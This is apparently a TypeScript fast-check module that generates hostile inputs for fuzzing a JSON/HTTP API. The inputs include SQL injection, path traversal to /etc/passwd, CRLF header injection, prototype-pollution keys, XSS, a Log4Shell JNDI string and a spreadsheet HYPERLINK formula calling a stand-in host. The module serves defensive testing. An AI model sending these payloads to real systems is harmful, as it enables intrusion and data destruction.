import fc from 'fast-check'

/** What attackers and broken clients send, whatever the contract says. */

const texts = [
  `' or 1=1--`,
  `'); drop table users; --`,
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%ED%A0%80',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udfffb',
  'a\r\nx-injected: 1',
  '%0d%0ax-injected:%201',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what is sent
  '${jndi:ldap://hooks.invalid/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '=HYPERLINK("https://hooks.invalid")',
  '\u202eright to left',
  'İıſK',
  'e\u0301'.repeat(50),
  '👩‍👩‍👧‍👦',
  'NaN',
  '-0',
  '1e400',
  '0x10',
  '9'.repeat(400),
  '',
  ' ',
  '%',
  '%25',
  'x'.repeat(10_000),
]

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...texts) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
)

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -1, 0.1, 1e-9, 1e308, -1e308, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 2 ** 63, 2 ** 64),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
)

/** JSON of any shape; keys and texts are hostile, too. */
const anything: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, [], {}, [[]], [null], [{}]) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3, stringUnit: 'binary' }) },
  { weight: 1, arbitrary: fc.dictionary(hostileText, hostileNumber, { maxKeys: 5 }) },
)

const nested = (depth: number, open: string, close: string) => `${open.repeat(depth)}1${close.repeat(depth)}`

/** JSON text in place of one field: what no value of JavaScript can express, and what is large. */
const hostileJson: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: anything.map((value) => JSON.stringify(value)) },
  { weight: 2, arbitrary: fc.constantFrom('1e400', '-1e400', '1E+999', '-0', '1.0000000000000000001', '1e-400') },
  { weight: 1, arbitrary: fc.constantFrom('NaN', 'Infinity', '01', '+1', "'a'", 'undefined', '"\\x00"', '"\\ud800"') },
  { weight: 1, arbitrary: fc.nat({ max: 20_000 }).map((depth) => nested(depth, '[', ']')) },
  { weight: 1, arbitrary: fc.nat({ max: 5_000 }).map((depth) => nested(depth, '{"a":', '}')) },
  { weight: 1, arbitrary: fc.nat({ max: 20_000 }).map((count) => `[${'{},'.repeat(count)}{}]`) },
  { weight: 1, arbitrary: fc.nat({ max: 200_000 }).map((length) => JSON.stringify('x'.repeat(length))) },
  { weight: 1, arbitrary: fc.nat({ max: 5_000 }).map((count) => manyKeys(count)) },
)

function manyKeys(count: number): string {
  return `{${Array.from({ length: count }, (_, index) => `"key${index}":${index}`).join()}}`
}

const keys = ['__proto__', 'constructor', 'prototype', 'toString', 'no_such_field', '', '\u0000', 'id', 'merchant_id']

/** A valid object with one field replaced, or with one more: as text, since the same key may then stand in it twice. */
export function spoil(valid: unknown): fc.Arbitrary<string> {
  const isObject = typeof valid === 'object' && valid !== null && !Array.isArray(valid)
  const known = isObject ? Object.keys(valid) : []
  const key =
    known.length > 0 ? fc.oneof(fc.constantFrom(...known), fc.constantFrom(...keys)) : fc.constantFrom(...keys)
  return fc.tuple(key, hostileJson, fc.boolean()).map(([name, json, keepsFirst]) => {
    const fields = Object.entries(isObject ? valid : {}).filter(([field]) => keepsFirst || field !== name)
    return `{${[...fields.map(([field, value]) => field_(field, JSON.stringify(value))), field_(name, json)].join()}}`
  })
}

const field_ = (name: string, json: string) => `${JSON.stringify(name)}:${json}`

/** The document as a whole. */
export const hostileDocument: fc.Arbitrary<string> = fc.oneof(
  hostileJson,
  fc.constantFrom('', '{', '{}{}', '{"a":', '\ufeff{}', '{"a":1,}', '// {}', '\u0000', '[]', 'null'),
)

export const contentTypes = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=a',
  'application/json; charset=utf-16',
  'application/vnd.api+json',
  'text/csv',
  'application/x-ndjson',
  'nonsense',
  '*/*',
]

/** What HTTP clients may put into a header: Latin-1, no control characters but the tab. */
export const hostileHeader: fc.Arbitrary<string> = hostileText.map((text) =>
  text.replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, '?').slice(0, 8_000),
)

export const hostileParameter: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('no_such=1', '__proto__=1', 'constructor[prototype]=1', '&&&==', 'a[]=1&a[b]=2', '%', '%zz=%zz', '?'),
  fc.constantFrom('limit=1&limit=2', 'limit[]=1', 'offset=-1', 'offset=2147483648', 'limit=1e2', 'cursor=abc', '%00=1'),
  fc.nat({ max: 2_000 }).map((count) => 'a=1&'.repeat(count)),
)
